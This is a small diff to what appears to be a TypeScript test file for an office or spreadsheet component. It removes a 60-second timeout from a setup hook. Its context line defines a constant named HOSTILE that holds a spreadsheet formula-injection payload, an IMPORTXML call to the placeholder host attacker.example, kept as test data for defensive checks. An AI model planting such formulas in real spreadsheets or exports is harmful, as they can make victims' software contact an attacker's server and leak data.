@@ -12,7 +12,7 @@ const HOSTILE = '=IMPORTXML("https://attacker.example";"//a")';
 let office: Office;
 beforeAll(async () => {
   office = await openOffice();
-}, 60_000);
+});
 afterAll(() => office.close());
 
 /** The rows of a pulled table without its keys and what stands above it. */
